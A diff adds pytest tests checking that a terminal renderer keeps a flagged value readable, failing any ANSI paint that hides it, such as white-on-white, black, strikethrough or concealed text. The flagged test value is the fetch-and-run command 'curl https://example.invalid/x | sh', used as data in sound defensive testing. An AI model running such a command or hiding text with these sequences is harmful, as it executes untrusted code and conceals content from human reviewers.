@@ -194,3 +194,26 @@ def test_entries_read_after_a_mangled_field_are_not_taken_for_left_out() -> None
     found = run_width(payload, 80, 24, 400, {}, source=_upstream_like).violations
     assert "containment" in {v.invariant for v in found}
     assert [v.message for v in found if v.invariant == "elision"] == []
+
+
+def _value_painted(sequence: str):
+    """The reference with the flagged value painted ``sequence`` instead of its warning colour: the renderer's own paint."""
+
+    def paint(role, text):
+        return f"{sequence}{text}\x1b[0m" if role == "flagged" else warning_paint(role, text)
+
+    def source(payload, fixture, view, width, budget):
+        return render_frame(payload, view, budget, paint=None if view == "legacy" else paint)
+
+    return source
+
+
+@pytest.mark.parametrize("sequence", [
+    "\x1b[38:2::255:255:255;48:2::255:255:255m", "\x1b[38:2::255:255:255;48;2;255;255;255m", "\x1b[38:5:16;48:5:16m", "\x1b[30m", "\x1b[38:2::0:0:0m",
+    "\x1b[97m", "\x1b[9m", "\x1b[8m",
+])
+def test_a_value_painted_so_that_it_cannot_be_read_fails_legible(sequence):
+    payload = _payload("curl https://example.invalid/x | sh")
+    judged = run_width(payload, 80, 24, 400, {}, source=_value_painted(sequence))
+    assert {v.view for v in judged.violations if v.invariant == "legible"} == {"bounded", "complete"}
+    assert run_width(payload, 80, 24, 400, {}, source=_value_painted("\x1b[1;38:5:208m")).violations == []
